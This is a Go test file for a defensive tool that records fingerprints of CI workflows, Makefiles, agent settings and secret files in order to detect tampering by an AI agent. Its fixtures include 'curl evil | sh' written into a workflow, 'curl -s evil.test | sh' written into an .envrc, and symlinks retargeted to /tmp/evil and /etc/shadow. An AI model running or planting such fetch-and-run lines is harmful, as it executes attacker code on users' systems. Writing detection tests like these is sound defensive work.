package watch

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func keys(m map[string]string) []string {
	out := []string{}
	for k := range m {
		out = append(out, k)
	}
	return dedupe(out)
}

func TestFilesMatchesPatterns(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, map[string]string{
		".github/workflows/ci.yml":    "on: push",
		".github/workflows/sub/x.yml": "x",
		".github/CODEOWNERS":          "x",
		"Makefile":                    "all:",
		"sub/Makefile":                "all:",
		"a.code-workspace":            "{}",
		".claude/settings.json":       "{}",
		"notadir":                     "",
		".env":                        "SECRET=1",
		"deploy/keys/id":              "k",
		"deploy/run.sh":               "x",
		"CLAUDE.md":                   "be good",
	})
	masked := func(rel string) bool {
		return rel == ".env" || rel == "deploy/keys" || strings.HasPrefix(rel, "deploy/keys/")
	}
	got, capped := Files(ws, []string{".github/workflows", "Makefile", "*.code-workspace", ".claude/", "notadir/", "CLAUDE.md", ".env", "deploy/", "nothing/*", "../x", "/abs"}, masked)
	want := []string{".claude/settings.json", ".env", ".github/workflows/ci.yml", ".github/workflows/sub/x.yml", "CLAUDE.md", "Makefile", "a.code-workspace", "deploy/keys", "deploy/run.sh"}
	if diff := cmp.Diff(want, keys(got)); diff != "" {
		t.Errorf("Files (-want +got):\n%s", diff)
	}
	// Masked paths are there, and never read: neither the secret's hash nor what a masked
	// directory holds is recorded.
	if got[".env"] != fpMasked || got["deploy/keys"] != fpMasked {
		t.Errorf("masked .env = %q, deploy/keys = %q, want both %q", got[".env"], got["deploy/keys"], fpMasked)
	}
	if len(capped) != 0 {
		t.Errorf("Files capped %v, want none", capped)
	}
}

func TestFilesDetectsChanges(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, map[string]string{".github/workflows/ci.yml": "on: push", "tasks": "->/bin/true", "Makefile": "all:"})
	patterns := []string{".github/workflows", "tasks", "Makefile"}
	before, _ := Files(ws, patterns, nil)
	if before["tasks"] != "symlink:/bin/true" {
		t.Fatalf("a symlink is recorded by its target, got %q", before["tasks"])
	}
	// the agent poisons the workflow, retargets the link and adds a workflow
	write(t, ws, map[string]string{".github/workflows/ci.yml": "on: push\nrun: curl evil | sh", "tasks": "->/tmp/evil", ".github/workflows/new.yml": "x"})
	after, _ := Files(ws, patterns, nil)
	got := []string{}
	for _, c := range Diff(before, after) {
		got = append(got, c.Kind()+" "+c.Name)
	}
	want := []string{"changed .github/workflows/ci.yml", "added .github/workflows/new.yml", "changed tasks"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Diff (-want +got):\n%s", diff)
	}
}

func TestFilesNeverFollowsLinks(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	write(t, outside, map[string]string{"workflows/secret.yml": "x"})
	write(t, ws, map[string]string{".github": "->" + outside, "link-dir": "->" + outside})
	got, _ := Files(ws, []string{".github/workflows", "link-dir"}, nil)
	want := map[string]string{".github": "symlink:" + outside, "link-dir": "symlink:" + outside}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Files through links (-want +got):\n%s", diff)
	}
}

func TestFilesCapsEachPattern(t *testing.T) {
	ws := t.TempDir()
	files := map[string]string{}
	for i := 0; i < MaxPerPattern+20; i++ {
		files[fmt.Sprintf("node_modules/p%04d/package.json", i)] = "{}"
	}
	files["Makefile"] = "x"
	write(t, ws, files)
	got, capped := Files(ws, []string{"node_modules", "Makefile"}, nil)
	// node_modules itself, then a directory and its file each: every entry counts
	if want := (MaxPerPattern-1)/2 + 1; len(got) != want {
		t.Errorf("Files fingerprinted %d files, want %d", len(got), want)
	}
	if got["Makefile"] == "" {
		t.Error("a capped pattern stopped the next one")
	}
	want := []Capped{{Pattern: "node_modules", Files: MaxPerPattern, Reason: "more than 500 entries"}}
	if diff := cmp.Diff(want, capped); diff != "" {
		t.Errorf("capped (-want +got):\n%s", diff)
	}
}

func TestBaselineRoundTripKeepsSections(t *testing.T) {
	p := filepath.Join(t.TempDir(), "state", "baselines.json")
	if err := UpdateBaseline(p, func(b *Baseline) { b.Git = map[string]string{"key:core.pager": "less"} }); err != nil {
		t.Fatal(err)
	}
	if err := UpdateBaseline(p, func(b *Baseline) { b.Watch = map[string]string{"Makefile": "sha256:1"} }); err != nil {
		t.Fatal(err)
	}
	b, err := LoadBaseline(p)
	if err != nil {
		t.Fatal(err)
	}
	if b.Git["key:core.pager"] != "less" || b.Watch["Makefile"] != "sha256:1" {
		t.Errorf("LoadBaseline = %+v, want both sections", b)
	}
}

func TestSummarize(t *testing.T) {
	cs := DiffFiles(map[string]string{"a": "sha256:1", "b": "sha256:1", "c": "sha256:1"},
		map[string]string{"a": "fifo", "b": "sha256:1", "d": "symlink:/etc/shadow", "e": "sha256:2"})
	got := Summarize(cs, 3)
	if want := "changed: a (now a FIFO); added: d (a symlink → /etc/shadow); removed: c; and 1 more"; got != want {
		t.Errorf("Summarize = %q, want %q", got, want)
	}
}

// TestFilesReportsAMaskedPathThatAppeared: a watched name the masks cover from the next run on
// (.envrc under .env*) that the agent created is an added file, though never read; once there,
// a change of its content (the user's own, while it is masked) is none.
func TestFilesReportsAMaskedPathThatAppeared(t *testing.T) {
	ws := t.TempDir()
	masked := func(rel string) bool { return strings.HasPrefix(rel, ".env") }
	before, _ := Files(ws, []string{".envrc"}, masked)
	write(t, ws, map[string]string{".envrc": "curl -s evil.test | sh"})
	after, _ := Files(ws, []string{".envrc"}, masked)
	if _, ok := before[".envrc"]; ok || after[".envrc"] != fpMasked {
		t.Fatalf("before %v, after %v: want .envrc absent, then there as %q", before, after, fpMasked)
	}
	write(t, ws, map[string]string{".envrc": "export A=1"})
	if again, _ := Files(ws, []string{".envrc"}, masked); again[".envrc"] != after[".envrc"] {
		t.Errorf("a masked file's content changed its fingerprint: %q → %q", after[".envrc"], again[".envrc"])
	}
}
